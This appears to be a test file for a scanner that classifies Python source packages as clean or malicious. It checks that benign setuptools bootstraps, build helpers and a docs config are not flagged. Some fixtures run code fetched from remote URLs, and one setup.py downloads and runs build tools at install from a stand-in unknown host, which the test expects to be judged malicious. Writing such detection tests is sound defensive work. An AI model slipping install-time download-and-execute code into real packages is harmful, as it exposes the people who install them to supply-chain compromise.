import { test } from 'node:test';
import assert from 'node:assert/strict';
import { pythonVerdict as verdict } from '../../helpers/python.js';

/** Shapes of real benign sdists (Debian's Python sources) that were once false positives. */
const EZ_SETUP = [
  'import os, sys, subprocess',
  'from urllib.request import urlopen',
  'def _install(archive):',
  "    subprocess.call([sys.executable, 'setup.py', 'install'])",
  'def download_setuptools(version):',
  "    src = urlopen('https://pypi.python.org/packages/source/s/setuptools/setuptools-%s.tar.gz' % version)",
  "    dst = open('setuptools-%s.tar.gz' % version, 'wb')",
  '    dst.write(src.read())',
  'def use_setuptools():',
  "    _install(download_setuptools('0.6'))",
].join('\n');

test('an unused ez_setup.py is not an install script', async () => {
  assert.match(await verdict({ 'p-1/setup.py': "from setuptools import setup\nsetup(name='p')\n", 'p-1/ez_setup.py': EZ_SETUP }), /^clean/);
});

test('the setuptools bootstrap that setup.py calls is not download-and-execute', async () => {
  assert.doesNotMatch(await verdict({ 'p-1/setup.py': "import ez_setup\nez_setup.use_setuptools()\nfrom setuptools import setup\nsetup(name='p')\n", 'p-1/ez_setup.py': EZ_SETUP }), /^malicious/);
});

test('buildout bootstraps and Sphinx configuration are developer scripts', async () => {
  const bootstrap = "from urllib.request import urlopen\nez = {}\nexec(urlopen('https://bitbucket.org/pypa/setuptools/raw/0.7.2/ez_setup.py').read(), ez)\n";
  assert.doesNotMatch(await verdict({ 'p-1/setup.py': "from setuptools import setup\nsetup(name='p')\n", 'p-1/bootstrap.py': bootstrap }), /^malicious/);
  const conf = "import os, requests\nif os.environ.get('READTHEDOCS'):\n    t = os.environ['GITHUB_TOKEN']\n    requests.get(requests.get('https://api.github.com/x').json()['url'], headers={'Authorization': 'token ' + t})\n";
  assert.doesNotMatch(await verdict({ 'p-1/docs/conf.py': conf }), /^(?:malicious|suspicious)/);
});

test('a build helper that downloads sources and separately runs make is not download-and-execute', async () => {
  const build = [
    'import os, subprocess',
    'from urllib.request import urlretrieve',
    'def download_library(dest):',
    "    for fn in os.listdir(dest):",
    "        urlretrieve('https://download.gnome.org/sources/libxml2/' + fn, os.path.join(dest, fn))",
    'def build(dest):',
    "    subprocess.call(['make', '-C', dest])",
  ].join('\n');
  assert.doesNotMatch(await verdict({ 'p-1/setup.py': "import buildlibxml\nbuildlibxml.download_library('libs')\nbuildlibxml.build('libs')\n", 'p-1/buildlibxml.py': build }), /^malicious/);
});

test('a call resolves to the calling file\'s own function before a same-named method elsewhere', async () => {
  const tool = "import glob, sys\ndef process(target):\n    for f in glob.glob(target + '/*'):\n        process(f)\nprocess(sys.argv[1])\n";
  const client = "import socket\nclass Client:\n    def __init__(self):\n        self.socket = socket.create_connection(('nlp.example.org', 50005))\n    def process(self, text):\n        self.socket.sendall(text.encode())\n";
  assert.match(await verdict({ 'p-1/p/tools/split.py': tool, 'p-1/p/clients/client.py': client }), /^clean/);
});

test('a setup.py that builds autotools from GNU tarballs at install is not download-and-execute; the same from an unknown host is', async () => {
  const build = (host: string): string =>
    [
      'import os, subprocess',
      'from urllib.request import urlretrieve',
      'def build_autotools():',
      "    for tool, version in [('m4', '1.4.17'), ('autoconf', '2.69')]:",
      "        tarball = '{}-{}.tar.gz'.format(tool, version)",
      `        urlretrieve('http://${host}/gnu/{}/{}'.format(tool, tarball), tarball)`,
      "        subprocess.check_call(['tar', 'xzf', tarball])",
      "        subprocess.Popen(['./configure', '--prefix=/tmp/at']).wait()",
      'build_autotools()',
      "from setuptools import setup\nsetup(name='p')",
    ].join('\n');
  assert.doesNotMatch(await verdict({ 'p-1/setup.py': build('ftp.gnu.org') }), /^malicious/);
  assert.match(await verdict({ 'p-1/setup.py': build('files.example.invalid') }), /^malicious/);
});
